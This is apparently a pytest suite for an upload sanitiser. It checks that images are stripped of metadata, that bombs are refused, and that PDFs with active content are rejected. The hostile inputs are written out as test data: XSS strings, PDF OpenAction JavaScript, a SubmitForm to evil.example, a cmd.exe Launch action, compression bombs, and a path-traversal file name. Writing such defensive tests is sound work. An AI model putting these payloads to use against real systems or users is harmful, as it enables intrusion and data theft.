"""A file from outside is what its content is, and only what is needed of it is kept."""

import io
import random
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter

from grunnmur import uploads
from grunnmur.uploads import Accepted, Kind, Refused

RED, BLUE = (200, 30, 30), (30, 30, 200)


def two_colours(size: tuple[int, int] = (40, 20), mode: str = "RGB") -> Image.Image:
    """Red to the left, blue to the right."""
    picture = Image.new(mode, size, RED if mode == "RGB" else (*RED, 128))
    picture.paste(BLUE if mode == "RGB" else (*BLUE, 255), (size[0] // 2, 0, size[0], size[1]))
    return picture


def jpeg(*, tail: bytes = b"") -> bytes:
    """With where it was taken, on which side it lies, a note, and whatever follows after its end."""
    exif = Image.Exif()
    exif[0x0112] = 6  # lies on its side
    exif[0x010E] = "Kanarifugl"
    exif.get_ifd(0x8825)[1] = "N"
    out = io.BytesIO()
    two_colours().save(out, "JPEG", exif=exif, comment=b"Kanarifugl", quality=95)
    return out.getvalue() + tail


def png(*, mode: str = "RGB", tail: bytes = b"") -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", "Kanarifugl")
    told.add_itxt("XML:com.adobe.xmp", "Kanarifugl", zip=True)
    out = io.BytesIO()
    two_colours(mode=mode).save(out, "PNG", pnginfo=told)
    return out.getvalue() + tail


def claims(width: int, height: int, *, rows: int = 1) -> bytes:
    """A small PNG that says it is large: `rows` of them are there, packed to almost nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packed = zlib.compress(b"\0" * (width + 1) * rows, 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def a_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>alert(1)</script>")
    return out.getvalue()


@cache
def pdf() -> bytes:
    """As our own papers are made: its objects are packed."""
    import weasyprint

    made: bytes = weasyprint.HTML(string="<html lang=nb><title>Rapport</title><p>Kanarifugl</p>").write_pdf()
    return made


def written(do: Callable[[PdfWriter], object]) -> bytes:
    """A PDF of one empty page that something has been done to."""
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    do(writer)
    writer.write(out)
    return out.getvalue()


def acting(action: bytes) -> bytes:
    """A PDF that does something when it is opened."""
    return written(lambda writer: None).replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << " + action + b" >>", 1
    )


def with_packed(objects: bytes, *, kind: str = "/Type /ObjStm", packing: str = "/Filter /FlateDecode") -> bytes:
    """A PDF with one more part, which is packed."""
    packed = zlib.compress(objects)
    part = (
        f"9 0 obj\n<< {kind} {packing} /Length {len(packed)} >>\nstream\n".encode() + packed + b"\nendstream\nendobj\n"
    )
    return written(lambda writer: None).replace(b"xref", part + b"xref", 1)


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(Refused) as refused:
        uploads.accept(data, name=name)
    return refused.value.sentence


# --- pictures ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("tail", [b"", a_zip(), b"<script>alert(1)</script>", pdf()], ids=["", "zip", "html", "pdf"])
@pytest.mark.parametrize(("make", "name", "kind"), [(jpeg, "a.JPG", Kind.JPEG), (png, "a.png", Kind.PNG)])
def test_a_picture_is_its_pixels_and_nothing_else(
    make: Callable[..., bytes], name: str, kind: Kind, tail: bytes
) -> None:
    sent = make(tail=tail)
    assert b"Kanarifugl" in sent
    kept = uploads.accept(sent, name=name)
    assert kept.kind is kind
    for hidden in (b"Kanarifugl", b"Exif", b"GPS", b"PK\3\4", b"<script", b"%PDF", b"xmp", b"iTXt", b"tEXt"):
        assert hidden not in kept.data, hidden
    picture = Image.open(io.BytesIO(kept.data))
    assert not picture.info.keys() & {"exif", "comment", "xmp", "Author", "icc_profile"}
    assert picture.size == ((20, 40) if kind is Kind.JPEG else (40, 20)), "turned the right way up"


def test_what_can_be_seen_through_still_can() -> None:
    kept = uploads.accept(png(mode="RGBA"), name="a.png")
    assert Image.open(io.BytesIO(kept.data)).convert("RGBA").getpixel((2, 2)) == (*RED, 128)


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_sort_of_png_is_read(mode: str) -> None:
    out = io.BytesIO()
    Image.new(mode, (8, 8)).save(out, "PNG")
    assert Image.open(io.BytesIO(uploads.accept(out.getvalue(), name="a.png").data)).size == (8, 8)


def test_four_colours_of_print_become_three_of_the_screen() -> None:
    out = io.BytesIO()
    Image.new("CMYK", (8, 8), (0, 255, 255, 0)).save(out, "JPEG")
    assert Image.open(io.BytesIO(uploads.accept(out.getvalue(), name="a.jpeg").data)).mode == "RGB"


def test_of_pictures_that_move_the_first_is_kept() -> None:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), RED).save(out, "PNG", save_all=True, append_images=[Image.new("RGB", (8, 8), BLUE)])
    assert getattr(Image.open(io.BytesIO(out.getvalue())), "n_frames", 1) == 2
    kept = Image.open(io.BytesIO(uploads.accept(out.getvalue(), name="a.png").data))
    assert getattr(kept, "n_frames", 1) == 1


@pytest.mark.parametrize("size", [(60_000, 60_000), (5001, 5000), (12_001, 1), (1, 12_001)])
def test_a_picture_with_too_many_points_is_refused_before_it_is_unpacked(size: tuple[int, int]) -> None:
    start = time.monotonic()
    assert "for mange punkter" in refusal(claims(*size), "a.png")
    assert time.monotonic() - start < 1


def test_a_picture_that_unpacks_to_more_than_it_says_is_no_more_than_it_says() -> None:
    bomb = claims(4000, 10, rows=20_000)
    assert len(bomb) < 100_000, "eighty million bytes, packed"
    assert Image.open(io.BytesIO(uploads.accept(bomb, name="a.png").data)).size == (4000, 10)


@pytest.mark.parametrize("part", [0.1, 0.5, 0.8])
@pytest.mark.parametrize(("make", "name"), [(jpeg, "a.jpg"), (png, "a.png")])
def test_a_picture_that_is_cut_off_is_refused(make: Callable[[], bytes], name: str, part: float) -> None:
    pdf()  # what makes it tells Pillow to take what is cut off
    sent = make()
    assert "kan ikke leses" in refusal(sent[: int(len(sent) * part)], name)


def test_a_picture_that_grows_when_it_is_written_anew_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A palette takes one byte a point, and what is kept three."""
    monkeypatch.setattr(uploads, "MAX_BYTES", 50_000)
    out = io.BytesIO()
    picture = Image.frombytes("P", (200, 200), random.Random(1).randbytes(40_000))
    picture.putpalette(random.Random(2).randbytes(768))
    picture.save(out, "PNG")
    assert len(out.getvalue()) < 50_000
    assert "Lagre det mindre, eller som JPEG." in refusal(out.getvalue(), "a.png")


# --- PDF ----------------------------------------------------------------------------------------------------------


def test_a_pdf_is_kept_as_it_is() -> None:
    kept = uploads.accept(pdf(), name="Rapport.pdf")
    assert kept == Accepted(Kind.PDF, pdf())
    assert "Kanarifugl" in PdfReader(io.BytesIO(kept.data)).pages[0].extract_text()


@pytest.mark.parametrize(
    "sent",
    [
        pytest.param(acting(b"/S /JavaScript /JS (app.alert(1))"), id="JavaScript"),
        pytest.param(acting(b"/S /J#61vaScr#69pt /JS (app.alert(1))"), id="another spelling"),
        pytest.param(acting(b"/S /SubmitForm /F (https://evil.example)"), id="sends a form"),
        pytest.param(acting(b"/S/Launch/F(cmd.exe)"), id="starts a program"),
        pytest.param(written(lambda w: w.add_attachment("a.exe", b"MZ")), id="a file inside"),
        pytest.param(with_packed(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"), id="JavaScript in a packed part"),
        pytest.param(with_packed(b"1 0 << /S /J#61vaScript >>"), id="another spelling in a packed part"),
        pytest.param(
            with_packed(b"1 0 << /S /Launch /F (cmd.exe) >>", kind="/Subtype /Image"), id="a part with a false name"
        ),
        pytest.param(with_packed(b"1 0 << /XFA [1 0 R] >>"), id="a form that runs"),
        pytest.param(with_packed(b"x", packing="/Filter [/ASCII85Decode /FlateDecode]"), id="packed twice"),
        pytest.param(with_packed(b"x", packing="/Filter 8 0 R"), id="packed in a way that stands elsewhere"),
        pytest.param(
            with_packed(b"x", packing="/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"), id="predicted"
        ),
    ],
)
def test_a_pdf_that_can_act_is_refused(sent: bytes) -> None:
    assert "noe i seg som kan kjøre" in refusal(sent, "a.pdf")


def test_a_pdf_with_a_password_is_refused() -> None:
    assert "låst med passord" in refusal(written(lambda w: w.encrypt("hemmelig", algorithm="RC4-128")), "a.pdf")


def test_a_pdf_that_is_too_much_unpacked_is_refused() -> None:
    bomb = with_packed(b"\0" * (uploads.MAX_UNPACKED + 1), kind="/Type /XObject")
    assert len(bomb) < 1_000_000
    start = time.monotonic()
    assert "svært stor når den pakkes ut" in refusal(bomb, "a.pdf")
    assert time.monotonic() - start < 10


@pytest.mark.parametrize("tail", [a_zip(), b"<script>alert(1)</script>", b"MZ\x90\0"])
def test_a_pdf_with_something_behind_it_is_refused(tail: bytes) -> None:
    assert "etter slutten" in refusal(pdf() + tail, "a.pdf")
    assert "avkuttet" in refusal(pdf()[: len(pdf()) // 2], "a.pdf")
    assert "noe annet" in refusal(tail + pdf(), "a.pdf")


# --- text -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("sent", ["Blåbærsyltetøy\r\n\tog så\f", "<script>alert(1)</script>", "日本"])
def test_a_text_is_text_whatever_it_says(sent: str) -> None:
    for data in (sent.encode(), sent.encode("utf-8-sig")):
        kept = uploads.accept(data, name="notat.txt")
        assert kept == Accepted(Kind.TEXT, sent.encode())
    assert Kind.TEXT.media_type == "text/plain; charset=utf-8"


@pytest.mark.parametrize(
    "data", ["Blåbær".encode("latin-1"), "Blåbær".encode("utf-16"), b"MZ\x90\0\3", b"a\x1b[2J", a_zip()]
)
def test_what_is_no_text_is_refused(data: bytes) -> None:
    assert "ikke ren tekst" in refusal(data, "a.txt")


# --- all ------------------------------------------------------------------------------------------------------------

GOOD = {"pdf": pdf(), "png": png(), "jpg": jpeg(), "txt": b"tekst"}


@pytest.mark.parametrize("ending", GOOD)
@pytest.mark.parametrize("content", GOOD)
def test_the_ending_and_the_content_agree(ending: str, content: str) -> None:
    if ending == content:
        assert uploads.accept(GOOD[content], name=f"a.{ending}").kind.value == ending
    else:
        assert "noe annet" in refusal(GOOD[content], f"a.{ending}") or ending == "txt"


@pytest.mark.parametrize(
    "name",
    [
        "a",
        "",
        ".",
        "a.pdf.exe",
        "a.svg",
        "a.html",
        "a.docx",
        "a.zip",
        "pdf",
        "a.pdf ",
        "a.\u202efdp",
        "../../etc/passwd",
    ],
)
def test_other_endings_are_refused(name: str) -> None:
    assert "Filnavnet må ende på" in refusal(pdf(), name)


@pytest.mark.parametrize("data", [b"", b" \r\n", b"\xef\xbb\xbf"])
def test_an_empty_file_is_refused(data: bytes) -> None:
    assert refusal(data, "a.txt") == "Filen er tom."


def test_a_large_file_is_refused() -> None:
    assert refusal(b"x" * (uploads.MAX_BYTES + 1), "a.txt") == "Filen er for stor. Den kan være høyst 10 MB."
    assert "Tekstfilen er for stor" in refusal(b"x" * (uploads.MAX_TEXT_BYTES + 1), "a.txt")


@pytest.mark.parametrize("name", ["a.txt", "a.pdf", "a.exe"])
def test_what_every_antivirus_finds_is_refused(name: str) -> None:
    for data in (uploads.EICAR, pdf() + uploads.EICAR, b"hei " + uploads.EICAR):
        assert "kjennetegnet til et virus" in refusal(data, name)


def test_what_every_antivirus_finds_is_refused_in_a_packed_part_of_a_pdf() -> None:
    for kind in ("/Type /ObjStm", "/Type /XObject"):
        assert "kjennetegnet til et virus" in refusal(with_packed(b"hei " + uploads.EICAR, kind=kind), "a.pdf")


@settings(max_examples=300, deadline=None)
@given(
    data=st.binary(max_size=300),
    start=st.sampled_from([b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"]),
    ending=st.sampled_from(sorted(uploads.ENDINGS)),
)
def test_whatever_comes_is_kept_or_refused_and_what_is_kept_is_kept_again(
    data: bytes, start: bytes, ending: str
) -> None:
    kept_again(start + data, ending)


@settings(max_examples=150, deadline=None)
@given(content=st.sampled_from(sorted(GOOD)), at=st.floats(0, 1), change=st.binary(min_size=1, max_size=8))
def test_what_is_damaged_anywhere_is_kept_or_refused(content: str, at: float, change: bytes) -> None:
    data = bytearray(GOOD[content])
    place = int(at * len(data))
    data[place : place + len(change)] = change
    kept_again(bytes(data), content)


def kept_again(data: bytes, ending: str) -> None:
    try:
        kept = uploads.accept(data, name=f"a.{ending}")
    except Refused as refused:
        assert refused.sentence.endswith(".")
    else:
        assert uploads.accept(kept.data, name=f"b.{kept.kind.value}").kind is kept.kind is uploads.ENDINGS[ending]
